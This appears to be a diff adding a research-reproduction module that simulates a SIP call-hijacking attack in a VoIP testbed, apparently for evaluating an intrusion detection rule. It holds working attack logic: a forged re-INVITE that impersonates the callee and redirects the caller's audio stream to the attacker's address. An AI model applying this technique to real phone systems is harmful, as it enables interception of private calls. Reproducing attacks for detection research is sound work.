@@ -1,0 +1,88 @@
+"""Call Hijacking (paper §4.2.3, Figure 7).
+
+"By sending a REINVITE message to [A], the attacker can redirect the RTP
+flow that is supposed to go to B to another location, most likely the IP
+address of the machine where the attacker is."
+
+The forged re-INVITE impersonates B and carries an SDP whose connection
+address is the attacker's.  A's phone — standard-compliant — starts
+sending its audio there.  B, knowing nothing, keeps streaming to A:
+that orphan flow from B's old endpoint is what the IDS rule detects.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.base import AttackerAgent, AttackReport
+from repro.net.addr import Endpoint
+from repro.net.stack import UdpSocket
+from repro.sip.constants import METHOD_INVITE
+from repro.sip.sdp import audio_offer
+from repro.voip.testbed import Testbed
+
+
+class CallHijackAttack:
+    """Redirect A's outgoing media to the attacker via a forged re-INVITE."""
+
+    name = "call-hijack"
+
+    def __init__(self, testbed: Testbed, media_port: int = 46000) -> None:
+        self.testbed = testbed
+        self.media_port = media_port
+        self.agent = AttackerAgent(
+            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
+        )
+        self.report = AttackReport(name=self.name)
+        self.stolen_packets = 0
+        self.stolen_bytes = 0
+        self._media_socket: UdpSocket = testbed.attacker_stack.bind(
+            media_port, self._on_stolen_media
+        )
+        self._rtcp_socket: UdpSocket = testbed.attacker_stack.bind(
+            media_port + 1, lambda payload, src, now: None
+        )
+
+    def _on_stolen_media(self, payload: bytes, src: Endpoint, now: float) -> None:
+        self.stolen_packets += 1
+        self.stolen_bytes += len(payload)
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        dialog = self.agent.spy.newest_live_dialog()
+        if dialog is None:
+            self.report.details["error"] = "no live dialog to hijack"
+            return
+        request, victim = self.agent.forge_in_dialog_request(
+            dialog, METHOD_INVITE, impersonate_callee=True
+        )
+        # Claim B's media moved to the attacker's machine.
+        sdp = audio_offer(
+            address=self.testbed.attacker_stack.ip,
+            port=self.media_port,
+            session_id="666",
+            version="2",
+            user="bob",
+        )
+        request._set_body(sdp.encode(), "application/sdp")
+        # A forged Contact keeps future in-dialog requests coming our way.
+        request.headers.set(
+            "Contact", f"<sip:bob@{self.testbed.attacker_stack.ip}:5060>"
+        )
+        self.agent.send_sip(request, victim)
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.completed = True
+        old_media = dialog.media.get(dialog.callee_addr().uri.address_of_record)
+        self.report.details.update(
+            {
+                "call_id": dialog.call_id,
+                "victim": str(victim),
+                "old_media": str(old_media) if old_media else None,
+                "new_media": f"{self.testbed.attacker_stack.ip}:{self.media_port}",
+            }
+        )
